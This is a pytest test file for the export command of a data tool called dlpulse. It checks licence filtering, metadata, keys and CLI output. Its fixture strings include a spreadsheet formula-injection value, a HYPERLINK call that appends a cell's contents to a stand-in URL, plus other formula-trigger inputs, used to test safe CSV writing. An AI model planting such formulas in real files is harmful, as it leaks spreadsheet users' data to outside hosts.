"""`dlpulse export` on a real build: what comes back, what is left out, how it is described, what it replaces."""

from __future__ import annotations

import re
import shutil
import subprocess
import sys
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import pytest

from tests.conftest import Dlpulse, environment
from tests.warehouse.exported import description, is_whole, plain, resources, rows
from tests.warehouse.source_answers import Sources
from tests.warehouse.test_parse_bench import TRIAL
from warehouse import registry
from warehouse.build import build
from warehouse.errors import BadInputError
from warehouse.export import FileFormat, Order, export
from warehouse.exportrows import OF_WHOLE_TABLES
from warehouse.settings import Settings

REGISTRY = """
[[framework]]
id = "toolog"
name = "=Toolog, \\"the\\" 'tool'"
colour = "#112233"
first_released_on = 2020-01-10
status = "active"
repositories = [{ name = "new/toolog", formerly = ["old/toolog"] }]
pypi = ["toolog"]
conda = ["toolog"]
stackoverflow_tags = ["toolog"]
survey_labels = ["Torch/PyTorch", "Toolog"]
paperswithcode = ["tl"]
arxiv = { query = ["Toolog"], rules = [{ match = "Toolog" }] }
"""
NOW = datetime(2026, 11, 23, 12, 30)
# A formula, what CSV needs quotation marks for, lines, signs of other scripts, and things that look like nothing.
NASTY = (
    '=HYPERLINK("http://x/?"&A1,"y")', "+1", "-1", "@SUM(1)", "\tx", "\r", "'quoted'", "''", 'a "b", c', "a\nb\r\nc",
    "Ω 深度学习 🚀", "＝1", " ", "NULL", "NaN", "\\N", ";|", "{", "x" * 5000,
)  # fmt: skip
DAYS = [date(2026, 10, 1) + timedelta(n) for n in range(40)]


def fill(sources: Sources) -> None:
    """Archive answers of every source, with texts that break careless writers."""
    sources.record("new/toolog", 500, "New/Toolog")
    sources.week("new/toolog", date(2026, 11, 15), [5, 1, 2, 0, 1, 0, 0])
    sources.ranking(date(2020, 2, 1), {"OLD/toolog": 40})
    sources.events(["new/toolog", "old/toolog", "New/Toolog"], date(2020, 1, 2), date(2020, 2, 2))
    sources.pypistats("toolog", dict.fromkeys(DAYS, 100))
    sources.clickhouse("toolog", DAYS[0], DAYS[9], {DAYS[0]: 999})
    sources.conda("2026-08", "toolog", 6, 12)
    for tag, total in ((None, 1000), ("toolog", 40)):
        sources.questions(tag, "2026-08", total)
    sources.releases("new/toolog", *((text, "2026-01-30", False, False) for text in NASTY))
    sources.releases_read("new/toolog", sources.now, "all")
    labels: dict[str, Any] = dict.fromkeys(NASTY, 1) | {"Torch/PyTorch": 80}
    sources.survey("stackoverflow", 2022, {"all respondents": {"base": 1000, "labels": labels}})
    sources.survey("kaggle", 2022, {"all respondents": {"base": 500, "labels": {"Toolog": 30}}})
    sources.implementations({"2020-06": {"tl": 4, "none": 15}})
    papers = [
        {
            "arxiv_id": f"2006.{number:05}", "submitted_on": "2020-06-05", "title": title, "abstract": "Toolog",
            "primary_category": "cs.LG", "categories": ["cs.LG", "stat.ML"],
        }
        for number, title in enumerate(NASTY)
    ]  # fmt: skip
    kept = {"rules": "1", "kind": "snapshot-papers"}
    sources.answer("papers", "snapshot:snapshot-papers", papers, None, **kept)
    fill_bench(sources)


def fill_bench(sources: Sources) -> None:
    """A device and two trials, described in nasty words."""
    device = {"device_id": TRIAL["device_id"], "cpu": NASTY[0], "cores": 2, "gpu": None, "memory_gib": 15.5}
    about = {"os": "", "python": "3.11", "versions": dict.fromkeys(NASTY, NASTY[0])}
    sources.answer("bench", "device", device | about | {"kind": "device"}, None)
    for number in (1, 2):
        trial = {**TRIAL, "trial_id": f"r-t{number}", "framework_id": "toolog"}
        sources.answer("bench", "trial:keras-tensorflow", trial, None)


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """A home with a published database of all that."""
    folder = tmp_path_factory.mktemp("export")
    (folder / "one.toml").write_text(REGISTRY, "utf-8")
    made = Settings(home=folder / "home", raw=folder / "home" / "raw", registry_file=folder / "one.toml")
    fill(Sources(made))
    build(made, registry.load(made))
    return made


@pytest.fixture(scope="module")
def shared(settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An export that may be passed on."""
    return exported(settings, tmp_path_factory.mktemp("shared") / "out")


@pytest.fixture(scope="module")
def whole(settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An export for own use."""
    return exported(settings, tmp_path_factory.mktemp("whole") / "out", own_use=True)


def exported(settings: Settings, folder: Path, **order: Any) -> Path:
    export(settings.database, Order(folder, **order), NOW, lambda *_: None)
    return folder


def ask(settings: Settings, sql: str) -> list[tuple[Any, ...]]:
    with duckdb.connect(str(settings.database), read_only=True) as connection:
        return plain(connection.execute(sql).fetchall())


def ask_export(folder: Path, sql: str) -> list[tuple[Any, ...]]:
    """Query the Parquet files of an export under their tables' names."""
    with duckdb.connect() as connection:
        for table, one in resources(folder, "parquet").items():
            connection.execute(f"create view {table} as from '{folder / one['path']}'")
        return connection.execute(sql).fetchall()


@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_for_own_use_every_row_of_every_table_comes_back_as_it_was(settings: Settings, whole: Path, form: str) -> None:
    found = resources(whole, form)
    tables = [name for (name,) in ask(settings, "select table_name from duckdb_tables() order by table_name")]
    assert list(found) == tables
    for table in tables:
        names = ", ".join(f'"{field["name"]}"' for field in found[table]["schema"]["fields"])
        assert rows(whole, found[table]) == ask(settings, f"select {names} from {table}"), table
        assert found[table]["dlpulse:rows"] == len(rows(whole, found[table]))


def test_nasty_texts_were_in_these_tables(settings: Settings) -> None:
    texts = {version for (version,) in ask(settings, "select version from fct_releases")}
    assert set(NASTY) <= texts
    assert ask(settings, "select cpu, os, len(map_keys(versions)) from dim_devices") == [(NASTY[0], "", len(NASTY))]


def test_rows_without_a_known_licence_are_left_out_and_counted(settings: Settings, shared: Path) -> None:
    downloads = "select source, count(*) from fct_downloads group by all order by all"
    assert ask_export(shared, downloads) == [("conda", 1)]
    assert ask(settings, downloads) == [("clickhouse", 1), ("conda", 1), ("pypistats", 40)]
    assert resources(shared, "csv")["fct_downloads"]["dlpulse:left_out"] == {"clickhouse": 1, "pypistats": 40}
    assert ask_export(shared, "select count(*) from hist_star_events") == [(0,)]
    assert ask_export(shared, "select distinct estimator from fct_stars order by all") == [("observed",), ("retained",)]


def test_of_surveys_cited_figures_and_counts_under_a_licence_stay(shared: Path) -> None:
    sql = (
        "select survey, response_id like 'cited:%' as cited, count(*) from fct_survey_shares group by all order by all"
    )
    found = {row[:2] for row in ask_export(shared, sql)}
    assert {("kaggle", True), ("kdnuggets", True), ("stackoverflow", True), ("stackoverflow", False)} == found
    assert resources(shared, "csv")["fct_survey_shares"]["dlpulse:left_out"] == {"kaggle": 1}


def test_figures_made_of_what_is_left_out_are_left_out_too(settings: Settings, shared: Path) -> None:
    overview = "select downloads_30d, question_share, stars_observed from rpt_frameworks"
    assert ask(settings, overview) == [(3000, 0.04, 500)]
    assert ask_export(shared, overview) == [(None, 0.04, 500)]
    assert resources(shared, "csv")["rpt_frameworks"]["dlpulse:emptied"]["downloads_30d"] == "pypistats"
    assert ask_export(shared, "select measure from rpt_framework_figures where source = 'pypistats'") == []
    assert ask(settings, "select count(gross) > 0 from rpt_star_disagreement") == [(True,)]
    assert ask_export(shared, "select count(gross), count(gross_per_observed) from rpt_star_disagreement") == [(0, 0)]


def test_nothing_of_an_unlicensed_answer_is_in_any_table_of_facts(settings: Settings, shared: Path) -> None:
    unlicensed = """
        select response_id from meta_responses
        where
            source = 'events'
            or subject like 'survey:kaggle%'
            or (source = 'downloads' and subject not like 'month:%')
    """
    secret = {response_id for (response_id,) in ask(settings, unlicensed)}
    assert secret
    for table, one in resources(shared, "parquet").items():
        names = [field["name"] for field in one["schema"]["fields"]]
        if "response_id" in names and table != "meta_responses":
            at = names.index("response_id")
            assert not secret & {row[at] for row in rows(shared, one)}, table


def test_every_table_leads_to_answers_or_is_known_to_the_export(settings: Settings) -> None:
    sql = """
        select table_name from duckdb_tables()
        where table_name not in (select table_name from duckdb_columns() where column_name = 'response_id')
    """
    assert {name for (name,) in ask(settings, sql)} <= set(OF_WHOLE_TABLES)


def test_every_licence_and_citation_of_the_data_is_in_the_folder(shared: Path, whole: Path) -> None:
    text = (shared / "LICENSES.md").read_text("utf-8")
    assert "* licence: ODbL 1.0 <https://opendatacommons.org/licenses/odbl/1-0/>" in text
    assert "* cite as: Stack Overflow, Annual Developer Survey" in text
    assert "## pypistats" not in text
    assert "## pypistats" in (whole / "LICENSES.md").read_text("utf-8")
    assert "Permission is hereby granted" in (shared / "NOTICE").read_text("utf-8")
    licences = {one["title"] for one in description(shared)["licenses"]}
    assert {"MIT", "ODbL 1.0", "CC BY-SA 4.0", "GitHub Terms of Service"} <= licences
    assert not {"your own", None} & licences


def test_the_readme_says_when_the_data_were_known_and_what_is_not_there(shared: Path, whole: Path) -> None:
    text = (shared / "README.md").read_text("utf-8")
    assert "They say what was known on **2026-11-30 00:00 UTC**" in text
    assert "Left out are " in text
    assert "40 rows of pypistats" in text
    assert "### fct_stars" in text
    assert "For your own use; do not pass it on." not in text
    assert "For your own use; do not pass it on." in (whole / "README.md").read_text("utf-8")


def test_the_description_has_what_the_standard_asks_for(shared: Path) -> None:
    content = description(shared)
    assert content["$schema"] == "https://datapackage.org/profiles/2.0/datapackage.json"
    assert (content["version"], content["created"]) == ("2026.11.30", "2026-11-23T12:30:00Z")
    assert "contributors" not in content
    for one in content["resources"]:
        assert one["type"] == "table"
        assert one["mediatype"] == {"csv": "text/csv", "parquet": "application/vnd.apache.parquet"}[one["format"]]
        assert one["schema"]["fields"]
        assert ("missingValues" in one["schema"]) == (one.get("encoding") == "utf-8") == (one["format"] == "csv")
    assert len({one["name"] for one in content["resources"]}) == len(content["resources"])
    assert is_whole(shared)


def test_coverage_says_that_what_it_tells_of_may_be_left_out_unless_nothing_is(shared: Path, whole: Path) -> None:
    remark = "what is observed there may be left out here, because no licence is known for its source"
    assert remark in resources(shared, "csv")["fct_coverage"]["description"]
    assert remark in (shared / "README.md").read_text("utf-8")
    assert remark not in (whole / "README.md").read_text("utf-8")


def test_descriptions_are_the_databases_comments(settings: Settings, shared: Path) -> None:
    found = resources(shared, "csv")
    for table, text in ask(settings, "select table_name, comment from duckdb_tables()"):
        told = found[table]["description"]
        assert told.startswith(text) if table == "fct_coverage" else told == text
    for table, name, text in ask(
        settings, "select table_name, column_name, comment from duckdb_columns() where not internal"
    ):
        told = {field["name"]: field["description"] for field in found[table]["schema"]["fields"]}
        assert told[name] == text, (table, name)


def test_types_are_those_of_a_table_schema(shared: Path) -> None:
    devices = resources(shared, "csv")["dim_devices"]["schema"]["fields"]
    kinds = {field["name"]: field["type"] for field in devices}
    assert (kinds["cores"], kinds["memory_gib"], kinds["versions"], kinds["os"]) == (
        "integer", "number", "object", "string",
    )  # fmt: skip
    stars = {field["name"]: field["type"] for field in resources(shared, "csv")["fct_stars"]["schema"]["fields"]}
    assert (stars["day"], stars["known_at"], stars["is_partial"]) == ("date", "datetime", "boolean")


def test_keys_hold_and_relations_lead_somewhere(shared: Path) -> None:
    found = resources(shared, "parquet")
    assert found["fct_stars"]["schema"]["primaryKey"] == ["repo_id", "day", "estimator", "source"]
    relations = 0
    for table, one in found.items():
        if key := ", ".join(one["schema"].get("primaryKey", ())):
            assert ask_export(shared, f"select {key} from {table} group by all having count(*) > 1") == []
            assert ask_export(shared, f"select 1 from {table} where ({key.replace(', ', ' || ')}) is null") == []
        for relation in one["schema"].get("foreignKeys", ()):
            (column,), (its,) = relation["fields"], relation["reference"]["fields"]
            other = relation["reference"]["resource"].removesuffix(".parquet")
            sql = f"select {column} from {table} where {column} not in (select {its} from {other})"
            assert ask_export(shared, sql) == [], (table, relation)
            relations += 1
    assert relations > 20


def test_only_the_tables_and_the_format_asked_for_are_there(settings: Settings, tmp_path: Path) -> None:
    out = exported(settings, tmp_path / "out", tables=["fct_releases", "dim_repos"], formats=FileFormat.CSV)
    files = {str(path.relative_to(out)) for path in out.rglob("*") if path.is_file()}
    assert files == {
        "csv/dim_repos.csv", "csv/fct_releases.csv", "datapackage.json", "README.md", "LICENSES.md", "NOTICE",
    }  # fmt: skip
    assert "foreignKeys" not in resources(out, "csv")["fct_releases"]["schema"], "dim_frameworks is not here"


def test_the_same_database_gives_the_same_bytes(settings: Settings, shared: Path, tmp_path: Path) -> None:
    again = exported(settings, tmp_path / "again")
    assert (again / "datapackage.json").read_bytes() == (shared / "datapackage.json").read_bytes()
    assert (again / "README.md").read_bytes() == (shared / "README.md").read_bytes()


def test_all_of_it_is_read_from_one_file_whatever_is_published_meanwhile(settings: Settings, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    database = Path(shutil.copy(settings.database, home / "dlpulse.duckdb"))
    other = Path(shutil.copy(settings.database, home / "new.duckdb"))
    with duckdb.connect(str(other)) as connection:
        connection.execute("delete from meta_responses")

    def publish(table: str, *_: Any) -> None:
        if table == "dim_frameworks" and other.exists():
            other.replace(database)

    export(database, Order(tmp_path / "out"), NOW, publish)
    assert not other.exists()
    expected = ask(settings, "select count(*) from meta_responses")
    assert ask_export(tmp_path / "out", "select count(*) from meta_responses") == expected


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("fct_star", r"^--tables fct_star: there is no such table; did you mean fct_stars"),
        ("duckdb_tables", r"^--tables duckdb_tables: there is no such table"),
    ],
)
def test_an_unknown_table_is_refused_with_the_nearest_names(
    settings: Settings, tmp_path: Path, name: str, message: str
) -> None:
    with pytest.raises(BadInputError, match=message):
        exported(settings, tmp_path / "out", tables=["dim_repos", name])
    assert list(tmp_path.iterdir()) == []


def test_the_command_prints_a_line_a_table_and_what_is_left_out(
    dlpulse: Dlpulse, settings: Settings, tmp_path: Path
) -> None:
    result = dlpulse("export", str(tmp_path / "out"), "--tables", "fct_downloads", DLPULSE_HOME=str(settings.home))
    lines = [line.split() for line in result.stdout.splitlines() if line.strip()]
    assert (result.returncode, result.stderr) == (0, "")
    assert lines[0] == ["table", "rows", "csv", "bytes", "parquet", "bytes"]
    assert lines[2][:2] == ["fct_downloads", "1"]
    assert result.stdout.splitlines()[-2].startswith("exported 1 tables, 1 rows, ")
    assert result.stdout.splitlines()[-1] == (
        "left out (--own-use exports them too): 1 row of clickhouse, 40 rows of pypistats; no licence is known for them"
    )


def test_on_a_terminal_progress_is_shown_and_gone_at_the_end(settings: Settings, tmp_path: Path) -> None:
    command = f"stty cols 80; {sys.executable} -m dlpulse export {tmp_path / 'out'} --tables fct_stars"
    shown = subprocess.run(
        ["script", "-qec", command, "/dev/null"],
        env=environment(settings.home, TERM="xterm"),
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    progress, _, summary = shown.partition("table ")
    assert re.search(r"fct_stars .*/1", progress)
    assert "exported 1 tables" in summary


def test_without_a_database_one_line_says_what_to_do(dlpulse: Dlpulse, tmp_path: Path) -> None:
    result = dlpulse("export", str(tmp_path / "out"))
    assert result.returncode == 1
    assert result.stderr.startswith("dlpulse: there is no database at ")
    assert result.stderr.count("\n") == 1
    assert not (tmp_path / "out").exists()
